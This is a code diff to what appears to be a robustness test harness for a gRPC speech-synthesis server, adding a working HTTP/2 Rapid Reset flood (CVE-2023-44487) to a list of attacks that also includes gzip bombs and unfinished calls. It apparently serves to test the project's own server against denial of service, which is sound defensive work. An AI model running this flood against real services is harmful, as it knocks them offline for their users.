@@ -3,16 +3,17 @@
 from __future__ import annotations
 
 import contextlib
+import itertools
 import random
 import resource
 import struct
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass, replace
 from typing import Any
 
 from hostile_floods import FloodPeer, gzip_bomb
-from hostile_peer import PING, frame, message
+from hostile_peer import PING, RST_STREAM, call_headers, frame, message
 
 from timbrel_protos.inference import grpc_service_pb2 as oip
 from timbrel_protos.timbrel.v1 import synthesizer_pb2 as pb
@@ -136,6 +137,26 @@ def unfinished_health(target: Target) -> None:
     fill(target, HEALTH_CHECK, "", body, int(300 * target.times))
 
 
+def rapid_resets(target: Target) -> None:
+    """Opens calls and takes them back at once, as fast as the server reads (CVE-2023-44487), on connections
+    that it replaces when they are cut."""
+    n_peers = max(1, round(2 * target.times))
+    with contextlib.ExitStack() as peers:
+        crowd: list[tuple[FloodPeer, Iterator[int]]] = []
+        end = time.monotonic() + ATTACK_SECONDS
+        while time.monotonic() < end:
+            crowd = [(peer, streams) for peer, streams in crowd if not peer.is_closed]
+            with contextlib.suppress(OSError):
+                while len(crowd) < n_peers:
+                    crowd.append((peers.enter_context(target.connect()), itertools.count(1, 2)))
+            for peer, streams in crowd:
+                if len(peer.unsent) < MIB:
+                    for number in itertools.islice(streams, 1000):
+                        peer.write(call_headers(HEALTH_CHECK, number))
+                        peer.write(frame(RST_STREAM, 0, number, struct.pack(">I", 8)))
+                peer.pump(seconds=0.01)
+
+
 def infer_streams(target: Target) -> None:
     items = message(inference(32, 2.0, target.bundle).SerializeToString()) * 60
     fill(target, STREAM_INFER, target.token, items, max(1, int(12 * target.times)))
@@ -193,6 +214,7 @@ ATTACKS: dict[str, Callable[[Target], None]] = {
     "pings": pings,
     "unfinished, no token": unfinished,
     "unfinished health": unfinished_health,
+    "rapid resets": rapid_resets,
     "inference streams": infer_streams,
     "batch streams": batch_streams,
     "unread files": unread_files,
